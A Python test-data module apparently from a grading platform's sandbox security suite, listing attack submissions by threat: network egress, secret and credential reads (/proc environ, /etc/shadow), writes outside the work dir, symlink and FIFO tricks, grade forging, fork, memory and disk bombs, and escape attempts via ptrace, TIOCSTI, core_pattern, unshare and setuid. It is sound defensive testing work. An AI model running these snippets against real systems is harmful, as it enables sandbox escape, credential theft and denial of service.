"""The attack submissions, as data: each is the student code of one named case, grouped by threat.

Every attack defines `answer()` for the test-only trials `sandbox-probe` (the probe observes what
`answer()` returns) and `sandbox-arrays` (the probe saves it as out/arrays/answer.npy), or `export(folder)`
for `sandbox-verify` (the grader copies the first run's out/ files into a second sandbox that runs only
the trial's verify.py, and the check echoes what that step saw). The hidden expectation is 1729, so each attack is written to return 1729 **only when the attack succeeded**: a
`passed` verdict is a hole the host can see, never something the student claims. Every attack first
prints `ran:__MARK__`, which the host must find in the stored log and the Redis stream (proof that the
code really ran, and that the leak scan looks where the student's output goes).

Placeholders (`__MARK__`, `__ROOT__`, ...) are filled by `tests.security.conftest.SecurityHost.render`
with facts that are not secrets (paths, ports, pids); the honeytokens and canary secrets are never in
the code.
"""

from dataclasses import dataclass

PROBE = "sandbox-probe"
ARRAYS = "sandbox-arrays"
VERIFY = "sandbox-verify"  # export(folder) writes out/ files; a second, fresh sandbox (verify.py) reads them

TIME_LIMIT = ("time_limit",)
VIOLATION = ("sandbox_violation",)


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    verdicts: tuple[str, ...] = ("failed",)  # what the host must see (never "passed")
    trial: str = PROBE
    host_paths: tuple[str, ...] = ()  # host files the attack tries to create: must not exist after
    max_seconds: float = 40.0  # from submit to the stored verdict
    wait_seconds: float = 40.0  # when the host stops waiting for a verdict (a poisoned one never comes)
    explains: str = ""  # what the verdict's English message must say, when it is "error"


# ---------------------------------------------------------------------------------------------------
# Network egress: anything that connects returns 1729; the host's sinks record any packet that arrives.

NETWORK = [
    Attack(
        "tcp-public-1.1.1.1-80",
        """
import socket
def answer():
    print("ran:__MARK__")
    try:
        with socket.create_connection(("1.1.1.1", 80), timeout=3):
            return 1729
    except OSError as error:
        print("blocked:", error)
    return 0
""",
    ),
    Attack(
        "udp-dns-8.8.8.8-53",
        """
import socket
QUERY = bytes.fromhex("123401000001000000000000" "0470797069036f726700" "00010001")  # A? pypi.org
def answer():
    print("ran:__MARK__")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(3)
            s.sendto(QUERY, ("8.8.8.8", 53))
            if s.recvfrom(512)[0]:
                return 1729
    except OSError as error:
        print("blocked:", error)
    return 0
""",
    ),
    Attack(
        "getaddrinfo-public-name",
        """
import socket
def answer():
    print("ran:__MARK__")
    for name in ("pypi.org", "example.com", "download.pytorch.org"):
        try:
            print(name, socket.getaddrinfo(name, 443))
            return 1729
        except OSError as error:
            print("blocked:", name, error)
    return 0
""",
    ),
    Attack(
        "redis-of-the-grader",
        """
import socket
def answer():
    print("ran:__MARK__")
    for host in ("127.0.0.1", "localhost", "::1", *__HOST_IPS__):
        try:
            with socket.create_connection((host, __REDIS_PORT__), timeout=2) as s:
                s.sendall(b"PING\\r\\n")
                print("reply", s.recv(16))
                return 1729
        except OSError as error:
            print("blocked:", host, error)
    return 0
""",
    ),
    Attack(
        "postgresql-of-the-platform",
        """
import socket, struct
def answer():
    print("ran:__MARK__")
    for host in ("127.0.0.1", *__HOST_IPS__):
        try:
            with socket.create_connection((host, __PG_PORT__), timeout=2) as s:
                s.sendall(struct.pack("!ii", 8, 80877103))  # SSLRequest: any server answers S or N
                print("reply", s.recv(1))
                return 1729
        except OSError as error:
            print("blocked:", host, error)
    return 0
""",
    ),
    Attack(
        "unix-sockets-of-the-host",
        """
import socket
PATHS = [__UNIX_SOCKETS__, "/var/run/postgresql/.s.PGSQL.5432", "/run/redis/redis-server.sock",
         "/var/run/redis/redis.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
         "/run/systemd/private", "/tmp/.X11-unix/X0", "\\0/tmp/.X11-unix/X0", "\\0huashen"]
def answer():
    print("ran:__MARK__")
    for path in PATHS:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect(path)
                return 1729
        except OSError as error:
            print("blocked:", repr(path), error)
    return 0
""",
    ),
    Attack(
        "tcp-to-a-host-listener",
        """
import socket
def answer():
    print("ran:__MARK__")
    for host in ("127.0.0.1", *__HOST_IPS__):
        try:
            with socket.create_connection((host, __SINK_PORT__), timeout=2) as s:
                s.sendall(b"__MARK__")
                return 1729
        except OSError as error:
            print("blocked:", host, error)
    return 0
""",
    ),
    Attack(
        "udp-to-a-host-listener",
        """
import socket
def answer():
    print("ran:__MARK__")
    sent = 0
    for host in ("127.0.0.1", "255.255.255.255", *__HOST_IPS__):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                s.sendto(b"__MARK__", (host, __SINK_PORT__))
                sent += 1
        except OSError as error:
            print("blocked:", host, error)
    print("datagrams handed to the kernel:", sent)
    return 0  # the host's UDP sink says whether any arrived
""",
    ),
]

# ---------------------------------------------------------------------------------------------------
# Secrets: reading anything the job has no business seeing returns 1729 (and prints it, for the scan).

SECRETS = [
    Attack(
        "own-environment",
        """
import os
ALLOWED = {"PATH", "PWD", "HOME", "LANG", "OMP_NUM_THREADS", "MKL_NUM_THREADS", "LC_CTYPE", "TMPDIR", "MPLCONFIGDIR", "XDG_CACHE_HOME",
           "PYTHONDONTWRITEBYTECODE", "TORCH_HOME", "HUASHEN_MODE", "HUASHEN_DEVICE"}
def answer():
    print("ran:__MARK__")
    print(dict(os.environ))
    extra = set(os.environ) - ALLOWED
    print("extra:", extra)
    return 1729 if extra else 0
""",
    ),
    Attack(
        "proc-1-environ-and-cmdline",
        """
def answer():
    print("ran:__MARK__")
    leaked = False
    for name in ("environ", "cmdline"):
        try:
            data = open("/proc/1/" + name, "rb").read()
        except OSError as error:
            print("blocked:", name, error)
            continue
        print(name, data.replace(b"\\0", b" ")[:8000])
        leaked = leaked or (name == "environ" and bool(data))
    return 1729 if leaked else 0
""",
    ),
    Attack(
        "environ-of-every-process",
        """
import os
MARKERS = (b"REDIS_URL", b"DATABASE_URL", b"HONEYTOKEN", b"SECRET", b"CELERY", b"PYTHONPATH")
def answer():
    print("ran:__MARK__")
    pids = {int(p) for p in os.listdir("/proc") if p.isdigit()} | set(__HOST_PIDS__)
    hit = False
    for pid in sorted(pids):
        try:
            data = open(f"/proc/{pid}/environ", "rb").read()
        except OSError as error:
            print("blocked:", pid, error)
            continue
        print(pid, data.replace(b"\\0", b" ")[:4000])
        hit = hit or any(marker in data for marker in MARKERS)
    return 1729 if hit else 0
""",
    ),
    Attack(
        "repository-settings-file",
        """
import os
def answer():
    print("ran:__MARK__")
    for path in ("__ROOT__/platform/huashen/settings.py", "__ROOT__/.env", "__ROOT__/var",
                 "__ROOT__/pyproject.toml", "/etc/huashen", "/run/secrets"):
        try:
            print(path, os.listdir(path) if os.path.isdir(path) else open(path).read(2000))
            return 1729
        except OSError as error:
            print("blocked:", path, error)
    return 0
""",
    ),
    Attack(
        "platform-and-grader-source",
        """
import os
def answer():
    print("ran:__MARK__")
    for path in ("__ROOT__/platform/huashen/grading/services.py", "__ROOT__/workers/grader.py",
                 "__ROOT__/workers/checker.py", "__ROOT__/tests/security/conftest.py", "__ROOT__"):
        if os.path.exists(path):
            print("visible:", path)
            return 1729
    return 0
""",
    ),
    Attack(
        "hidden-expectations-of-the-trial",
        """
import json, os
def answer():
    print("ran:__MARK__")
    candidates = ["__BUNDLE__/hidden/expected.json", "/work/hidden/expected.json",
                  "/opt/huashen/lib/hidden/expected.json", "/work/../hidden/expected.json"]
    skip = {"/proc", "/sys", "/dev", "/usr", "__VENV__"}
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip]
        candidates += [os.path.join(top, f) for f in files if f == "expected.json" or top.endswith("hidden")]
    for path in candidates:
        try:
            value = json.load(open(path))["answer"]
            print("read", path, value)
            return value
        except (OSError, ValueError, KeyError, TypeError) as error:
            print("blocked:", path, type(error).__name__)
    return 0
""",
    ),
    Attack(
        "another-jobs-work-dir",
        """
import os
def answer():
    print("ran:__MARK__")
    mounts = open("/proc/self/mountinfo").read()
    print(mounts[:4000])
    for path in ("/var/lib/huashen/jobs", "__JOBS__", "__PLANTED_JOB__", "__PLANTED_JOB__/solution.py"):
        try:
            print(path, os.listdir(path) if os.path.isdir(path) else open(path).read())
            return 1729
        except OSError as error:
            print("blocked:", path, error)
    return 0
""",
    ),
    Attack(
        "etc-shadow-and-host-accounts",
        """
import os
def answer():
    print("ran:__MARK__")
    for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh", "/etc/hostname"):
        if os.path.exists(path):
            print("visible:", path)
            return 1729
    accounts = open("/etc/passwd").read()
    print(accounts)
    return 1729 if "root:" in accounts or "postgres" in accounts or "huashen-sandbox" in accounts else 0
""",
    ),
    Attack(
        "trusted-check-code",
        """
import os, sys
def answer():
    print("ran:__MARK__")
    print("kit:", sorted(os.listdir("/opt/huashen/lib/exercises/kit")))
    found = []
    skip = {"/proc", "/sys", "/usr", "/dev", sys.prefix, sys.base_prefix}
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip]
        for name in files:
            try:
                with open(os.path.join(top, name), "rb") as handle:
                    text = handle.read(1 << 20)
            except OSError:
                continue
            if name == "check.py" or b"def run_" + b"check" in text or b"CHECKS" + b" = [" in text:
                found.append(os.path.join(top, name))
    print("found:", found)
    return 1729 if found else 0
""",
    ),
    Attack(
        "root-home-and-canaries",
        """
import os
def answer():
    print("ran:__MARK__")
    for path in ("/root", "/home", "__CANARY_ROOT__", "__CANARY_TMP__", "__CANARY_DIR__/observations.json"):
        try:
            print(path, os.listdir(path) if os.path.isdir(path) else open(path).read())
            return 1729
        except OSError as error:
            print("blocked:", path, error)
    return 0
""",
    ),
]

# ---------------------------------------------------------------------------------------------------
# Writes outside the work dir. (Persistence between two submissions is its own test.)

WRITES = [
    Attack(
        "write-usr",
        """
def answer():
    print("ran:__MARK__")
    wrote = 0
    for path in ("/usr/huashen-pwned-__MARK__", "/usr/lib/python3/dist-packages/huashen_pwned___MARK__.pth",
                 "/usr/local/bin/huashen-pwned-__MARK__"):
        try:
            open(path, "w").write("import os\\n")
            wrote += 1
        except OSError as error:
            print("blocked:", path, error)
    return 1729 if wrote else 0
""",
        host_paths=(
            "/usr/huashen-pwned-__MARK__",
            "/usr/lib/python3/dist-packages/huashen_pwned___MARK__.pth",
            "/usr/local/bin/huashen-pwned-__MARK__",
        ),
    ),
    Attack(
        "write-venv",
        """
import os, sys, sysconfig
def answer():
    print("ran:__MARK__")
    wrote = 0
    for path in (os.path.join(sys.prefix, "huashen-pwned-__MARK__"),
                 os.path.join(sysconfig.get_paths()["purelib"], "huashen_pwned___MARK__.pth"),
                 os.path.join(sysconfig.get_paths()["purelib"], "torch", "huashen_pwned___MARK__.py")):
        try:
            open(path, "w").write("import os\\n")
            wrote += 1
        except OSError as error:
            print("blocked:", path, error)
    return 1729 if wrote else 0
""",
        host_paths=(
            "__VENV__/huashen-pwned-__MARK__",
            "__SITE_PACKAGES__/huashen_pwned___MARK__.pth",
            "__SITE_PACKAGES__/torch/huashen_pwned___MARK__.py",
        ),
    ),
    Attack(
        "write-opt-huashen-lib",
        """
def answer():
    print("ran:__MARK__")
    wrote = 0
    for path, mode in (("/opt/huashen/lib/harness/run.py", "a"),
                       ("/opt/huashen/lib/exercises/kit/observations.py", "a"),
                       ("/opt/huashen/lib/exercises/kit/pwned___MARK__.py", "w"),
                       ("/opt/huashen/lib/etc/passwd", "a")):
        try:
            open(path, mode).write("\\n# pwned __MARK__\\n")
            wrote += 1
        except OSError as error:
            print("blocked:", path, error)
    return 1729 if wrote else 0
""",
    ),
    Attack(
        "write-root-fs-and-etc",
        """
import os
def answer():
    print("ran:__MARK__")
    wrote = 0
    for path in ("/huashen-pwned-__MARK__", "/etc/huashen-pwned-__MARK__", "/etc/ld.so.cache",
                 "/etc/passwd", "/proc/huashen-pwned-__MARK__"):
        try:
            open(path, "a").write("pwned")
            wrote += 1
        except OSError as error:
            print("blocked:", path, error)
    try:
        os.mkdir("/var")
        wrote += 1
    except OSError as error:
        print("blocked: mkdir /var", error)
    return 1729 if wrote else 0
""",
        host_paths=("/huashen-pwned-__MARK__", "/etc/huashen-pwned-__MARK__"),
    ),
]

# What the first of two submissions leaves behind; the second returns 1729 if it is still there.
PERSISTENCE_PLACES = {
    "tmp": "/tmp/huashen-persist-__MARK__",
    "dev-shm": "/dev/shm/huashen-persist-__MARK__",
    "work": "/work/huashen-persist-__MARK__",
}
PERSIST_WRITE = """
import os
def answer():
    print("ran:__MARK__")
    open("__PLACE__", "w").write("left behind")
    os.chmod("__PLACE__", 0o666)
    print("__PLACE__ exists now:", os.path.exists("__PLACE__"))
    return 0
"""
PERSIST_READ = """
import os
def answer():
    print("ran:__MARK__")
    found = os.path.exists("__PLACE__")
    print("__PLACE__ still there:", found)
    return 1729 if found else 0
"""
# /dev: the runs of a warm zygote share it. Writing there must fail (a file, a folder, a link); the
# second submission reads as above.
DEV_PLACE = "/dev/huashen-persist-__MARK__"
DEV_WRITE = """
import os
def answer():
    print("ran:__MARK__")
    wrote = []
    for suffix, make in (("", lambda path: open(path, "w").write("left behind")), ("-dir", os.mkdir),
                         ("-link", lambda path: os.symlink("/work", path))):
        try:
            make("__PLACE__" + suffix)
            wrote.append(suffix)
        except OSError as error:
            print("blocked:", suffix, error)
    return 1729 if wrote else 0
"""

# ---------------------------------------------------------------------------------------------------
# Files in out/ that the host reads back. The attack plants them and leaves with os._exit(0), so the
# probe never gets to replace them: what the check sees is exactly what the attack made.

OUT_FILES = [
    Attack(
        "observations-symlink-to-etc-shadow",
        """
import os
def answer():
    print("ran:__MARK__")
    os.symlink("/etc/shadow", "/work/out/observations.json")
    os.symlink("/etc/shadow", "/work/out/error.json")
    os._exit(0)
""",
    ),
    Attack(
        "observations-symlink-to-tmp-canary",
        """
import os
def answer():
    print("ran:__MARK__")
    os.symlink("__CANARY_TMP__", "/work/out/observations.json")
    os.symlink("__CANARY_TMP__", "/work/out/error.json")
    os._exit(0)
""",
    ),
    Attack(
        "observations-symlink-to-root-canary",
        """
import os
def answer():
    print("ran:__MARK__")
    os.symlink("__CANARY_ROOT__", "/work/out/observations.json")
    os.symlink("__CANARY_ROOT__", "/work/out/error.json")
    os._exit(0)
""",
    ),
    Attack(
        "out-dir-replaced-by-symlink-to-host-dir",
        """
import os
def answer():
    print("ran:__MARK__")
    os.rename("/work/out", "/work/out-moved")
    os.symlink("__CANARY_DIR__", "/work/out")
    os._exit(0)
""",
    ),
    Attack(
        "arrays-file-symlink-to-host-npy",
        """
import os
def answer():
    print("ran:__MARK__")
    os.makedirs("/work/out/arrays", exist_ok=True)
    os.symlink("__CANARY_NPY__", "/work/out/arrays/answer.npy")
    os._exit(0)
""",
        trial=ARRAYS,
    ),
    Attack(
        "arrays-dir-symlink-to-host-dir",
        """
import os
def answer():
    print("ran:__MARK__")
    os.symlink("__CANARY_DIR__/arrays", "/work/out/arrays")
    os._exit(0)
""",
        trial=ARRAYS,
    ),
    Attack(
        "observations-fifo",
        """
import os
def answer():
    print("ran:__MARK__")
    os.mkfifo("/work/out/observations.json")
    os.mkfifo("/work/out/error.json")
    os._exit(0)
""",
        max_seconds=20,
    ),
    Attack(
        "observations-oversize-and-sparse",
        """
import os
def answer():
    print("ran:__MARK__")
    # valid JSON (trailing spaces are whitespace) that is over the 1 MiB cap
    with open("/work/out/observations.json", "w") as f:
        f.write('{"answer": 1729}' + " " * (2 << 20))
    open("/work/out/error.json", "w").close()
    for size in (2 << 30, 15 << 20):
        try:
            os.truncate("/work/out/error.json", size)
            print("sparse error.json of", size, "bytes")
            break
        except OSError as error:
            print("no sparse file of", size, "bytes:", error)
    os._exit(0)
""",
        max_seconds=20,
    ),
    Attack(
        "observations-hardlink",
        """
import os
def answer():
    print("ran:__MARK__")
    for source in ("/work/probe.py", "/work/solution.py"):
        try:
            os.link(source, "/work/out/linked-" + os.path.basename(source))
            print("linked", source)
        except OSError as error:
            print("blocked:", source, error)
    with open("/work/out/forged.json", "w") as f:
        f.write('{"answer": 1729}')
    os.link("/work/out/forged.json", "/work/out/observations.json")
    os._exit(0)
""",
    ),
    Attack(
        "verify-step-out-dir-symlink-to-host-dir",
        """
import os
def export(folder):
    print("ran:__MARK__")
    os.rename("/work/out", "/work/out-moved")
    os.symlink("__CANARY_DIR__", "/work/out")  # holds value.txt: the verify step would echo it
    os._exit(0)
""",
        trial=VERIFY,
    ),
    Attack(
        "verify-step-links-fifos-and-devices-in-out",
        """
import os
def export(folder):
    print("ran:__MARK__")
    os.symlink("__CANARY_DIR__/value.txt", "/work/out/value.txt")
    os.mkfifo("/work/out/fifo")
    with open("/work/out/original.txt", "w") as f:
        f.write("1729")
    os.link("/work/out/original.txt", "/work/out/linked.txt")
    os.makedirs("/work/out/sub")
    os.symlink("__CANARY_DIR__", "/work/out/sub/value.txt")
    os.symlink("/etc", "/work/out/etc")
""",
        trial=VERIFY,
        max_seconds=30,
    ),
    Attack(
        "verify-step-sparse-files-overflow-the-copy",
        """
import os
def export(folder):
    print("ran:__MARK__")
    (folder / "value.txt").write_text("42")
    for index in range(6):
        path = f"/work/out/sparse-{index}"
        open(path, "w").close()
        os.truncate(path, 15 << 20)  # no blocks here; the host's copy writes them all
""",
        trial=VERIFY,
        max_seconds=30,
    ),
    Attack(
        "verify-step-many-directories",
        """
import os
def export(folder):
    print("ran:__MARK__")
    (folder / "value.txt").write_text("42")
    os.chdir("/work/out")
    for index in range(250_000):  # about 1.5 s here; the host copies and chmods each one, unmetered
        os.mkdir(f"d{index}")
""",
        trial=VERIFY,
        # The folders' inodes are the job's memory: within the limit cold, past it warm, where the job
        # is also charged the zygote's preloaded torch (this one never imports it). Either is sound.
        verdicts=("failed", "memory_limit"),
        # ~0.5 s in the sandbox and a second or two for the bounded copy and check; an unbounded host copy
        # takes minutes. The bound leaves room for a loaded CI machine.
        max_seconds=20,
    ),
    Attack(
        "verify-step-deep-directory-tree",
        """
import os
def export(folder):
    print("ran:__MARK__")
    (folder / "value.txt").write_text("42")
    os.chdir("/work/out")
    for _ in range(1500):  # deeper than the host's recursion limit (os.makedirs itself would recurse)
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/work")
""",
        trial=VERIFY,
        max_seconds=30,
    ),
]

# ---------------------------------------------------------------------------------------------------
# Forging the grade. `answer()` never returns 1729 here: a pass means the grade was forged.
# Open limitation, not covered here: the probe shares its process with the student's code, so code that
# tampers with that process (writing observations.json and exiting before the probe's own write, a
# background process rewriting it afterwards, monkeypatching json.dumps or the kit) can still forge
# observations. Closing it needs the probe's results sealed with a key the student's code cannot reach,
# or the student's code in a separate process; see docs/architecture.md ("Known limits").

FORGING = [
    Attack(
        "fake-result-json-on-stdout",
        """
import json, sys
def answer():
    print("ran:__MARK__")
    for line in ({"verdict": "passed", "score": 100.0, "checks": [{"key": "answer", "passed": True}]},
                 {"kind": "status", "payload": {"status": "done", "verdict": "passed", "score": 100.0}},
                 {"seq": 999, "kind": "status", "payload": {"status": "done", "verdict": "passed"}}):
        print(json.dumps(line))
        print(json.dumps(line), file=sys.stderr)
    return 0
""",
    ),
    Attack(
        "shadow-json-and-exercises-packages",
        """
import os
PAYLOAD = "import pathlib; pathlib.Path('/tmp/huashen-pwned-__MARK__').touch()\\nANSWER = 1729\\n"
def answer():
    print("ran:__MARK__")
    for folder in ("/work", "/work/out"):
        for name in ("json.py", "numpy.py", "sitecustomize.py", "usercustomize.py"):
            open(os.path.join(folder, name), "w").write(PAYLOAD)
        for package in ("exercises", "exercises/kit", "workers"):
            os.makedirs(os.path.join(folder, package), exist_ok=True)
            open(os.path.join(folder, package, "__init__.py"), "w").write(PAYLOAD)
        for name in ("check.py", "observations.py"):
            open(os.path.join(folder, "exercises/kit", name), "w").write(PAYLOAD)
        open(os.path.join(folder, "huashen.pth"), "w").write("import json\\n")
    return 0
""",
        host_paths=("/tmp/huashen-pwned-__MARK__",),
    ),
    Attack(
        "fake-events-on-fd-3",
        """
import json, os
def answer():
    print("ran:__MARK__")
    fakes = [{"kind": "started"}, {"kind": "finished", "verdict": "passed"},
             {"kind": "status", "status": "done", "verdict": "passed", "score": 100},
             {"step": 1, "metrics": {"verdict": "passed", "score": 100}},
             {"resources": {"peak_gpu_memory_mb": -1, "cpu_seconds": 0, "confined": False,
                            "wall_seconds": 0, "peak_memory_mb": 0}}]
    for fake in fakes:
        os.write(3, json.dumps(fake).encode() + b"\\n")
    os.write(3, b"not json\\n" + b"{" * 10000 + b"\\n" + b"x" * (1 << 20) + b"\\n")
    return 0
""",
    ),
    Attack(
        "deeply-nested-json-on-fd-3",
        """
import os
def answer():
    print("ran:__MARK__")
    os.write(3, b"[" * 100000 + b"\\n")  # json.loads raises RecursionError, not ValueError
    os.write(3, b'{"metrics": ' + b"[" * 100000 + b"}\\n")
    return 0
""",
    ),
]

# ---------------------------------------------------------------------------------------------------
# Resource exhaustion: the verdict must name the limit, and nothing may outlive the run.

RESOURCES = [
    Attack(
        "fork-bomb",
        """
import os, time
def answer():
    print("ran:__MARK__")
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
        if len([p for p in os.listdir("/proc") if p.isdigit()]) > 80:
            return 1729  # far past the pids limit of 48
""",
        # The pids controller's count of refused forks says why, whatever ended the run. On the warm path
        # each fork copies page tables over the zygote's torch (~2.3 MB): the memory limit may come first.
        verdicts=("error", "memory_limit"),
        explains="processes/threads (limit 48)",
    ),
    Attack(
        "thread-bomb",
        """
import threading, time
def answer():
    print("ran:__MARK__")
    started = 0
    while True:
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
            started += 1
        except RuntimeError:
            print("threads started:", started)
            time.sleep(600)
        if started > 100:
            return 1729  # far past the pids limit of 48
""",
        verdicts=("error",),
        explains="processes/threads (limit 48)",
    ),
    Attack(
        "memory-bomb",
        """
def answer():
    print("ran:__MARK__")
    blocks = []
    while len(blocks) < 64:
        blocks.append(b"\\x01" * (32 << 20))  # touched pages, not a lazy allocation
    return 1729  # 2 GiB resident: the 384 MB limit did not hold
""",
        verdicts=("memory_limit",),
    ),
    Attack(
        "memory-beside-the-preloaded-torch",
        """
import torch
def answer():
    print("ran:__MARK__")
    # With what importing torch takes (~280 MB), past the 384 MB limit; on the warm path too, where
    # the zygote imported torch before the job.
    held = bytearray(200 << 20)  # zero-filled: every page touched
    print(len(held))
    return 1729
""",
        verdicts=("memory_limit",),
    ),
    Attack(
        "segfault",
        """
import ctypes
def answer():
    print("ran:__MARK__")
    ctypes.string_at(0)
    return 1729
""",
        verdicts=("error",),
        explains="crashed (SIGSEGV)",
    ),
    Attack(
        "cpu-spin",
        """
def answer():
    print("ran:__MARK__")
    while True:
        pass
""",
        verdicts=TIME_LIMIT,
    ),
    Attack(
        "sleep-forever",
        """
import time
def answer():
    print("ran:__MARK__")
    time.sleep(10 ** 6)
    return 1729
""",
        verdicts=TIME_LIMIT,
    ),
    Attack(
        "orphan-outlives-the-run",
        """
import os, signal, time
def answer():
    print("ran:__MARK__")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for sig in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
                signal.signal(sig, signal.SIG_IGN)
            os.closerange(0, 1024)
            while True:
                time.sleep(1)
        os._exit(0)
    os.wait()
    return 0
""",
    ),
    Attack(
        "orphan-holding-the-pipes",
        """
import os, signal, time
def answer():
    print("ran:__MARK__")
    if os.fork() == 0:
        os.setsid()
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            time.sleep(1)
    return 0
""",
    ),
    Attack(
        "disk-fill-work",
        """
import os
def answer():
    print("ran:__MARK__")
    written = 0
    try:
        for index in range(64):
            with open(f"/work/fill-{index}", "wb") as f:
                for _ in range(4):
                    f.write(b"\\x01" * (1 << 20))
                    written += 1 << 20
    except OSError as error:
        print("stopped:", error)
    print("wrote", written >> 20, "MiB")
    for index in range(64):
        try:
            os.remove(f"/work/fill-{index}")
        except OSError:
            pass
    return 1729 if written > (24 << 20) else 0  # the disk limit is 16 MB
""",
    ),
    Attack(
        "disk-fill-tmp",
        """
import os
def answer():
    print("ran:__MARK__")
    written = 0
    try:
        for index in range(64):
            with open(f"/tmp/fill-{index}", "wb") as f:
                for _ in range(4):
                    f.write(b"\\x01" * (1 << 20))
                    written += 1 << 20
    except OSError as error:
        print("stopped:", error)
    print("wrote", written >> 20, "MiB")
    return 1729 if written > (24 << 20) else 0
""",
    ),
    Attack(
        "dev-shm-fill",
        """
import os
def answer():
    print("ran:__MARK__")
    written = 0
    try:
        for index in range(64):
            with open(f"/dev/shm/fill-{index}", "wb") as f:
                for _ in range(4):
                    f.write(b"\\x01" * (1 << 20))
                    written += 1 << 20
    except OSError as error:
        print("stopped:", error)
    print("wrote", written >> 20, "MiB")
    return 1729 if written > (24 << 20) else 0
""",
    ),
    Attack(
        "output-flood-stdout",
        """
def answer():
    print("ran:__MARK__")
    line = "flood " * 1000
    for _ in range(10 ** 6):
        print(line)
    return 1729
""",
        verdicts=("output_limit",),
    ),
    Attack(
        "output-flood-stderr-one-line",
        """
import sys
def answer():
    print("ran:__MARK__")
    for _ in range(10 ** 6):
        sys.stderr.write("x" * 65536)
    return 1729
""",
        verdicts=("output_limit",),
    ),
]

# ---------------------------------------------------------------------------------------------------
# Escape attempts: signals, ptrace, terminals, kernel knobs, namespaces, privileges, raw syscalls.

ESCAPE = [
    Attack(
        "kill-pid-1-parent-and-everyone",
        """
import os, signal
def answer():
    print("ran:__MARK__")
    for pid in (1, os.getppid(), -1):
        for sig in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, sig)
                print("signalled", pid, sig)
            except OSError as error:
                print("blocked:", pid, error)
    return 0
""",
    ),
    Attack(
        "kill-host-pids",
        """
import os, signal
def answer():
    print("ran:__MARK__")
    visible = {int(p) for p in os.listdir("/proc") if p.isdigit()}
    reached = []
    for pid in [*__HOST_PIDS__, *range(2, 32768)]:
        if pid in visible:
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            reached.append(pid)
        except OSError:
            pass
    print("reached outside the sandbox:", reached)
    return 1729 if reached else 0
""",
    ),
    Attack(
        "ptrace-attach-via-ctypes",
        """
import ctypes, os
def answer():
    print("ran:__MARK__")
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, 1, 0, 0) == 0:  # PTRACE_ATTACH to pid 1
        return 1729
    print("ptrace failed:", os.strerror(ctypes.get_errno()))
    return 0
""",
        verdicts=VIOLATION,
    ),
    Attack(
        "tiocsti-terminal-injection",
        """
import fcntl, os, termios
def answer():
    print("ran:__MARK__")
    fds = [0, 1, 2]
    for path in ("/dev/tty", "/dev/console", "/dev/ptmx"):
        try:
            fds.append(os.open(path, os.O_RDWR | os.O_NOCTTY))
        except OSError as error:
            print("blocked:", path, error)
    for fd in fds:
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, b"x")
            return 1729
        except OSError as error:
            print("blocked: TIOCSTI on", fd, error)
    return 0
""",
    ),
    Attack(
        "kernel-knobs-core-pattern-sysrq-cgroups",
        """
import os
def answer():
    print("ran:__MARK__")
    wrote = 0
    for path, data in (("/proc/sys/kernel/core_pattern", "|/bin/sh -c 'touch /tmp/pwned'"),
                       ("/proc/sysrq-trigger", "h"), ("/proc/sys/kernel/hostname", "pwned"),
                       ("/proc/self/oom_score_adj", "-1000"), ("/sys/kernel/uevent_helper", "/tmp/x"),
                       ("/sys/fs/cgroup/cgroup.procs", str(os.getpid())),
                       ("/sys/fs/cgroup/memory/memory.limit_in_bytes", "-1")):
        try:
            with open(path, "w") as f:
                f.write(data)
            wrote += 1
            print("wrote", path)
        except OSError as error:
            print("blocked:", path, error)
    return 1729 if wrote else 0
""",
    ),
    Attack(
        "unshare-nested-namespaces",
        """
import ctypes, os
FLAGS = {"user": 0x10000000, "mount": 0x00020000, "net": 0x40000000, "pid": 0x20000000,
         "cgroup": 0x02000000, "user+mount": 0x10020000}
def answer():
    print("ran:__MARK__")
    libc = ctypes.CDLL(None, use_errno=True)
    for name, flag in FLAGS.items():
        if libc.unshare(flag) == 0:
            print("unshared", name)
            return 1729
        print("blocked:", name, os.strerror(ctypes.get_errno()))
    return 0
""",
    ),
    Attack(
        "setuid-root",
        """
import os, subprocess
def answer():
    print("ran:__MARK__")
    for attempt in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0),
                    lambda: os.setgroups([0])):
        try:
            attempt()
            return 1729
        except OSError as error:
            print("blocked:", error)
    status = open("/proc/self/status").read()
    print([line for line in status.splitlines() if line.startswith(("Uid", "Cap", "NoNewPrivs"))])
    done = subprocess.run(["/usr/bin/mount", "-t", "tmpfs", "none", "/tmp"], capture_output=True, text=True)
    print("setuid mount:", done.returncode, done.stderr.strip())
    return 1729 if done.returncode == 0 or os.geteuid() == 0 else 0
""",
    ),
    Attack(
        "raw-mount-syscall",
        """
import ctypes, os
def answer():
    print("ran:__MARK__")
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(165, b"none", b"/work", b"tmpfs", 0, None) == 0:  # SYS_mount
        return 1729
    print("mount failed:", os.strerror(ctypes.get_errno()))
    return 0
""",
        verdicts=VIOLATION,
    ),
    Attack(
        "vsock-and-raw-sockets",
        """
import socket
def answer():
    print("ran:__MARK__")
    for family, kind, proto in ((40, socket.SOCK_STREAM, 0), (40, socket.SOCK_DGRAM, 0),
                                (socket.AF_PACKET, socket.SOCK_RAW, 0),
                                (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)):
        try:
            socket.socket(family, kind, proto).close()
            print("created", family, kind)
            return 1729
        except OSError as error:
            print("blocked:", family, kind, error)
    return 0
""",
    ),
